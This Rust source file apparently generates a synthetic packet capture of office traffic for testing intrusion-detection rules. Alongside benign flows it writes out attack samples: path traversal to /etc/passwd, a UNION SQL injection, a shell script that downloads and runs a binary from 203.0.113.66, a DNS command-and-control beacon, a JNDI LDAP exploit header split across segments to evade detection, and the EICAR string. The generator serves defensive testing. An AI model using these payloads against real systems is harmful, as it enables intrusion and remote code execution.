//! A varied capture from a seed: the traffic of a small office, with a few things that rules look for. For demonstrations;
//! it is made up and says nothing about real traffic.

use std::net::{IpAddr, Ipv6Addr};

use crate::payload::{self, ClientHello};
use crate::scenario::{Acks, DataOptions, FlowOptions, Scenario, SendOptions};
use crate::wire::{Addresses, Encapsulation, Fragmentation, Order, Way, Wrap, WrapKind, v4};
use crate::{Capture, Random, SynthFrame};

use Way::{ToClient, ToServer};

/// Domains of the example's honest traffic.
const DOMAINS: [&str; 12] = [
    "www.example.com",
    "mail.example.net",
    "cdn.example.org",
    "updates.vendor.example",
    "static.news.example",
    "api.weather.example",
    "login.bank.example",
    "video.stream.example",
    "docs.project.example",
    "images.shop.example",
    "time.example.net",
    "search.example.com",
];

const PATHS: [&str; 8] = [
    "/",
    "/index.html",
    "/style/main.css",
    "/images/logo.png",
    "/api/v1/status?format=json",
    "/news/2024/11/story-1234",
    "/download/setup.exe",
    "/search?q=open+source+intrusion+prevention",
];

const AGENTS: [&str; 4] = [
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
    "curl/8.9.1",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15",
];

/// What a flow of the example is.
type Maker = fn(&mut Random, &mut Scenario, &Hosts);

/// Honest flows with their weights, of 100 or so.
const HONEST: [(u64, Maker); 11] = [
    (30, dns),
    (22, web),
    (26, tls),
    (4, ping),
    (3, ntp),
    (3, ssh),
    (3, mail),
    (2, ftp),
    (3, scan_answer),
    (2, tunnelled),
    (2, fragmented),
];

/// Flows that rules look for.
const HOSTILE: [Maker; 7] =
    [traversal, sql_injection, shell_download, beacon, exploit_in_pieces, credential_leak, eicar];

/// Addresses of one flow.
struct Hosts {
    client: IpAddr,
    server: IpAddr,
    port: u16,
    name: &'static str,
}

impl Hosts {
    fn client(&self) -> (IpAddr, u16) {
        (self.client, self.port)
    }
}

/// `flows` flows over about `flows` × 50 ms, one in 20 of them hostile.
pub fn example(seed: u64, flows: usize) -> Capture {
    let mut random = Random::new(seed);
    let mut frames: Vec<SynthFrame> = Vec::new();
    let start = 1_732_000_000_000_000_000;
    for number in 0..flows {
        let mut scenario = Scenario::new();
        scenario.set_time(start + number as u64 * 50_000_000 + random.below(2_000_000_000));
        scenario.set_step(200_000 + random.below(20_000_000));
        let six = random.one_in(8);
        let host = |prefix: u16, number: u64| -> IpAddr {
            if six {
                IpAddr::V6(Ipv6Addr::new(0x2001, 0xdb8, prefix, 0, 0, 0, 0, number as u16 + 1))
            } else if prefix == 1 {
                v4(192, 168, 1, 10 + number as u8)
            } else {
                v4(203, 0, 113, 1 + number as u8)
            }
        };
        let hosts = Hosts {
            client: host(1, random.below(40)),
            server: host(2, random.below(80)),
            port: 32_768 + random.below(28_000) as u16,
            name: random.pick(&DOMAINS),
        };
        let maker = if number % 20 == 13 {
            HOSTILE[number / 20 % HOSTILE.len()]
        } else {
            let mut ticket = random.below(HONEST.iter().map(|(weight, _)| weight).sum());
            let found = HONEST.iter().find(|(weight, _)| {
                let found = ticket < *weight;
                ticket = ticket.saturating_sub(*weight);
                found
            });
            found.map_or(dns as Maker, |(_, maker)| *maker)
        };
        maker(&mut random, &mut scenario, &hosts);
        frames.extend(scenario.finish().frames);
    }
    // Flows overlap in time; equal times stay in order of their flows.
    frames.sort_by_key(|frame| frame.time);
    Capture { frames, ..Capture::default() }
}

fn options(random: &mut Random) -> FlowOptions {
    FlowOptions {
        isn: [random.next() as u32, random.next() as u32],
        timestamps: random.one_in(2),
        window_scale: Some(7),
        ttl: random.pick(&[64, 128, 255]),
        acks: if random.one_in(5) { Acks::Each } else { Acks::Last },
        encapsulation: Encapsulation {
            vlan: if random.one_in(6) { vec![10 + random.below(4) as u16] } else { Vec::new() },
            ..Encapsulation::default()
        },
        ..FlowOptions::default()
    }
}

/// Data as networks carry it: sometimes reordered, repeated, or lost and sent again.
fn deliver(random: &mut Random, scenario: &mut Scenario, flow: crate::Flow, way: Way, data: &[u8]) {
    let mut how = DataOptions::default();
    let segments = data.len().div_ceil(1448);
    how.segment = Some(1448);
    if segments > 2 && random.one_in(4) {
        let mut order: Vec<usize> = (1..=segments).collect();
        let at = random.below(segments as u64 - 1) as usize;
        order.swap(at, at + 1);
        how.order = Order::Listed(order);
    } else if random.one_in(12) {
        how.repeat = 2;
    } else if segments > 2 && random.one_in(10) {
        let lost = random.below(segments as u64) as usize;
        scenario.send(flow, way, data, &DataOptions { lose: vec![lost + 1], acks: Some(Acks::None), ..how.clone() });
        let from = lost * 1448;
        let piece = &data[from..data.len().min(from + 1448)];
        how.offset = from as i64 - data.len() as i64;
        return scenario.send(flow, way, piece, &how);
    }
    scenario.send(flow, way, data, &how);
}

fn finish(random: &mut Random, scenario: &mut Scenario, flow: crate::Flow) {
    match random.below(10) {
        0 => scenario.reset(flow, ToClient, &SendOptions::default()),
        1 => {}
        _ => scenario.close(flow),
    }
}

fn dns(random: &mut Random, scenario: &mut Scenario, hosts: &Hosts) {
    let resolver = if hosts.client.is_ipv4() { v4(192, 168, 1, 1) } else { hosts.server };
    let flow = scenario.udp(hosts.client(), (resolver, 53), options(random));
    let id = random.next() as u16;
    let kind = if random.one_in(3) { 28 } else { 1 };
    let address = if kind == 1 { "203.0.113.80" } else { "2001:db8:2::50" };
    scenario.send(flow, ToServer, &payload::dns_query(id, hosts.name, kind), &DataOptions::default());
    let data = payload::dns_data(kind, address);
    let (code, records) = if random.one_in(9) { (3, Vec::new()) } else { (0, vec![data]) };
    scenario.send(flow, ToClient, &payload::dns_answer(id, hosts.name, kind, code, &records), &DataOptions::default());
}

fn web_with(random: &mut Random, scenario: &mut Scenario, hosts: &Hosts, exchanges: &[(Vec<u8>, Vec<u8>)]) {
    let flow = scenario.tcp(hosts.client(), (hosts.server, 80), options(random));
    scenario.handshake(flow);
    for (request, response) in exchanges {
        deliver(random, scenario, flow, ToServer, request);
        deliver(random, scenario, flow, ToClient, response);
    }
    finish(random, scenario, flow);
}

fn agent(random: &mut Random) -> String {
    format!("User-Agent: {}", random.pick(&AGENTS))
}

fn web(random: &mut Random, scenario: &mut Scenario, hosts: &Hosts) {
    let agent = agent(random);
    let exchanges: Vec<_> = (0..1 + random.below(4))
        .map(|_| {
            let request = payload::http_request("GET", random.pick(&PATHS), hosts.name, &[&agent, "Accept: */*"], b"");
            let length = 200 + random.below(9000) as usize;
            let body: Vec<u8> = b"<p>The quick brown fox jumps over the lazy dog.</p>\n".repeat(length / 52 + 1);
            let response = payload::http_response(200, &["Server: example", "Content-Type: text/html"], &body);
            (request, response)
        })
        .collect();
    web_with(random, scenario, hosts, &exchanges);
}

fn tls(random: &mut Random, scenario: &mut Scenario, hosts: &Hosts) {
    let flow = scenario.tcp(hosts.client(), (hosts.server, 443), options(random));
    scenario.handshake(flow);
    let seed = random.next();
    let hello = ClientHello {
        server_name: Some(hosts.name),
        alpn: &["h2", "http/1.1"],
        suites: &[0xc02b, 0xc02f, 0xcca9, 0xc013, 0x009c],
        tls13: false,
        random: seed,
    };
    deliver(random, scenario, flow, ToServer, &payload::tls_client_hello(&hello));
    deliver(random, scenario, flow, ToClient, &payload::tls_server_hello(0xc02f, seed ^ 2));
    deliver(random, scenario, flow, ToServer, &payload::tls_change_cipher(seed ^ 3));
    deliver(random, scenario, flow, ToClient, &payload::tls_change_cipher(seed ^ 4));
    for _ in 0..1 + random.below(4) {
        deliver(
            random,
            scenario,
            flow,
            ToServer,
            &payload::tls_data(100 + random.clone().below(900) as usize, seed ^ 5),
        );
        let length = 500 + random.below(12_000) as usize;
        deliver(random, scenario, flow, ToClient, &payload::tls_data(length, seed ^ 6));
    }
    finish(random, scenario, flow);
}

fn ping(random: &mut Random, scenario: &mut Scenario, hosts: &Hosts) {
    let id = random.next() as u16;
    let flow = scenario.icmp(hosts.client, hosts.server, FlowOptions { id, ..options(random) });
    for _ in 0..1 + random.below(4) {
        let data: Vec<u8> = (0x10..0x40).collect();
        scenario.send(flow, ToServer, &data, &DataOptions::default());
        scenario.send(flow, ToClient, &data, &DataOptions::default());
    }
}

fn ntp(random: &mut Random, scenario: &mut Scenario, hosts: &Hosts) {
    let flow = scenario.udp(hosts.client(), (hosts.server, 123), options(random));
    let mut message = vec![0x23, 0, 6, 0xec];
    message.extend(random.bytes(44));
    scenario.send(flow, ToServer, &message, &DataOptions::default());
    message[..4].copy_from_slice(&[0x24, 2, 6, 0xec]);
    scenario.send(flow, ToClient, &message, &DataOptions::default());
}

fn ssh(random: &mut Random, scenario: &mut Scenario, hosts: &Hosts) {
    let flow = scenario.tcp(hosts.client(), (hosts.server, 22), options(random));
    scenario.handshake(flow);
    deliver(random, scenario, flow, ToClient, b"SSH-2.0-OpenSSH_9.8\r\n");
    deliver(random, scenario, flow, ToServer, b"SSH-2.0-OpenSSH_9.6p1 Ubuntu-3ubuntu13\r\n");
    for way in [ToServer, ToClient, ToServer, ToClient] {
        // Packets of random content: length, padding, bytes.
        let body = random.bytes(300);
        let packet = [&((body.len() + 1) as u32).to_be_bytes()[..], &[8], &body].concat();
        deliver(random, scenario, flow, way, &packet);
    }
    finish(random, scenario, flow);
}

fn lines(random: &mut Random, scenario: &mut Scenario, hosts: &Hosts, port: u16, dialogue: &[(Way, &str)]) {
    let flow = scenario.tcp(hosts.client(), (hosts.server, port), options(random));
    scenario.handshake(flow);
    for (way, line) in dialogue {
        deliver(random, scenario, flow, *way, line.as_bytes());
    }
    finish(random, scenario, flow);
}

fn mail(random: &mut Random, scenario: &mut Scenario, hosts: &Hosts) {
    let message = "From: ann@example.com\r\nTo: bob@example.net\r\nSubject: Lunch\r\nMIME-Version: 1.0\r\n\
                   Content-Type: text/plain\r\n\r\nShall we meet at noon?\r\n.\r\n";
    let dialogue = [
        (ToClient, "220 mail.example.net ESMTP\r\n"),
        (ToServer, "EHLO client.example.com\r\n"),
        (ToClient, "250-mail.example.net\r\n250 SIZE 10485760\r\n"),
        (ToServer, "MAIL FROM:<ann@example.com>\r\n"),
        (ToClient, "250 ok\r\n"),
        (ToServer, "RCPT TO:<bob@example.net>\r\n"),
        (ToClient, "250 ok\r\n"),
        (ToServer, "DATA\r\n"),
        (ToClient, "354 go ahead\r\n"),
        (ToServer, message),
        (ToClient, "250 queued\r\n"),
        (ToServer, "QUIT\r\n"),
        (ToClient, "221 bye\r\n"),
    ];
    lines(random, scenario, hosts, 25, &dialogue);
}

fn ftp(random: &mut Random, scenario: &mut Scenario, hosts: &Hosts) {
    let dialogue = [
        (ToClient, "220 files.example.org ready\r\n"),
        (ToServer, "USER anonymous\r\n"),
        (ToClient, "331 send your address\r\n"),
        (ToServer, "PASS guest@example.com\r\n"),
        (ToClient, "230 welcome\r\n"),
        (ToServer, "PWD\r\n"),
        (ToClient, "257 \"/\"\r\n"),
        (ToServer, "QUIT\r\n"),
        (ToClient, "221 bye\r\n"),
    ];
    lines(random, scenario, hosts, 21, &dialogue);
}

/// A connection that is refused.
fn scan_answer(random: &mut Random, scenario: &mut Scenario, hosts: &Hosts) {
    use weir_packet::tcp_flags::SYN;
    let port = random.pick(&[23, 445, 3389, 8080]);
    let flow = scenario.tcp(hosts.client(), (hosts.server, port), options(random));
    scenario.syn(flow, ToServer, SYN, &SendOptions::default());
    scenario.reset(flow, ToClient, &SendOptions::default());
}

fn tunnelled(random: &mut Random, scenario: &mut Scenario, hosts: &Hosts) {
    let kind = random.pick(&[WrapKind::Vxlan, WrapKind::Gre, WrapKind::Ipip, WrapKind::Geneve]);
    let outer = Addresses { source: v4(10, 9, 0, 1), destination: v4(10, 9, 0, 2) };
    let mut options = options(random);
    options.encapsulation.wraps.push(Wrap { kind, outer, number: 77 });
    let flow = scenario.udp(hosts.client(), (hosts.server, 53), options);
    let id = random.next() as u16;
    scenario.send(flow, ToServer, &payload::dns_query(id, hosts.name, 1), &DataOptions::default());
}

fn fragmented(random: &mut Random, scenario: &mut Scenario, hosts: &Hosts) {
    let flow = scenario.udp(hosts.client(), (hosts.server, 5060), options(random));
    let order = if random.one_in(2) { Order::Reverse } else { Order::Forward };
    let body = b"v=0\r\no=- 0 0 IN IP4 203.0.113.9\r\ns=call\r\n".repeat(60);
    let message = [&b"OPTIONS sip:office@example.com SIP/2.0\r\nContent-Length: 2520\r\n\r\n"[..], &body].concat();
    let fragment = Some(Fragmentation { size: 1480, order, overlap: 0 });
    let send = SendOptions { fragment, ..SendOptions::default() };
    scenario.send(flow, ToServer, &message, &DataOptions { send, ..DataOptions::default() });
}

fn attack(random: &mut Random, scenario: &mut Scenario, hosts: &Hosts, request: Vec<u8>, response: Vec<u8>) {
    web_with(random, scenario, hosts, &[(request, response)]);
}

fn traversal(random: &mut Random, scenario: &mut Scenario, hosts: &Hosts) {
    let uri = random.pick(&["/cgi-bin/../../../../etc/passwd", "/static/..%2f..%2f..%2fetc%2fpasswd"]);
    let agent = agent(random);
    let request = payload::http_request("GET", uri, hosts.name, &[&agent], b"");
    let body = b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n";
    attack(random, scenario, hosts, request, payload::http_response(200, &["Content-Type: text/plain"], body));
}

fn sql_injection(random: &mut Random, scenario: &mut Scenario, hosts: &Hosts) {
    let uri = "/product.php?id=1%20UNION%20SELECT%20user,password%20FROM%20accounts--";
    let agent = "User-Agent: sqlmap/1.8.2#stable (https://sqlmap.org)";
    let request = payload::http_request("GET", uri, hosts.name, &[agent], b"");
    attack(random, scenario, hosts, request, payload::http_response(500, &[], b"database error"));
}

fn shell_download(random: &mut Random, scenario: &mut Scenario, hosts: &Hosts) {
    let agent = "User-Agent: Wget/1.21";
    let request = payload::http_request("GET", "/bins/loader.sh", hosts.name, &[agent], b"");
    let body = b"#!/bin/sh\ncd /tmp; wget http://203.0.113.66/bins/arm7; chmod 777 arm7; ./arm7\n";
    attack(random, scenario, hosts, request, payload::http_response(200, &[], body));
}

fn beacon(random: &mut Random, scenario: &mut Scenario, hosts: &Hosts) {
    let resolver = if hosts.client.is_ipv4() { v4(192, 168, 1, 1) } else { hosts.server };
    let flow = scenario.udp(hosts.client(), (resolver, 53), options(random));
    for _ in 0..4 {
        let id = random.next() as u16;
        let label: String = random.bytes(16).iter().map(|byte| format!("{byte:02x}")).collect();
        let name = format!("{label}.c2.malware.example");
        scenario.send(flow, ToServer, &payload::dns_query(id, &name, 16), &DataOptions::default());
        let records = [payload::dns_data(16, "cmd=sleep 60")];
        scenario.send(flow, ToClient, &payload::dns_answer(id, &name, 16, 0, &records), &DataOptions::default());
        scenario.wait(5_000_000_000);
    }
}

/// An exploit whose telling string never lies in one segment.
fn exploit_in_pieces(random: &mut Random, scenario: &mut Scenario, hosts: &Hosts) {
    let flow = scenario.tcp(hosts.client(), (hosts.server, 80), options(random));
    scenario.handshake(flow);
    let header = "X-Api-Version: ${jndi:ldap://203.0.113.66:1389/a}";
    let request = payload::http_request("GET", "/login", hosts.name, &[header], b"");
    let how = DataOptions { segment: Some(5), order: Order::Shuffled(random.next()), ..DataOptions::default() };
    scenario.send(flow, ToServer, &request, &how);
    deliver(random, scenario, flow, ToClient, &payload::http_response(404, &[], b"not found"));
    finish(random, scenario, flow);
}

fn credential_leak(random: &mut Random, scenario: &mut Scenario, hosts: &Hosts) {
    let dialogue = [
        (ToClient, "220 ftp ready\r\n"),
        (ToServer, "USER root\r\n"),
        (ToClient, "331 password\r\n"),
        (ToServer, "PASS hunter2\r\n"),
        (ToClient, "530 login incorrect\r\n"),
    ];
    lines(random, scenario, hosts, 21, &dialogue);
}

fn eicar(random: &mut Random, scenario: &mut Scenario, hosts: &Hosts) {
    // The anti-malware test string, in two parts so that this file is not taken for it.
    let body = [r"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR", "-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"].concat();
    let agent = agent(random);
    let request = payload::http_request("GET", "/eicar.com", hosts.name, &[&agent], b"");
    attack(random, scenario, hosts, request, payload::http_response(200, &[], body.as_bytes()));
}
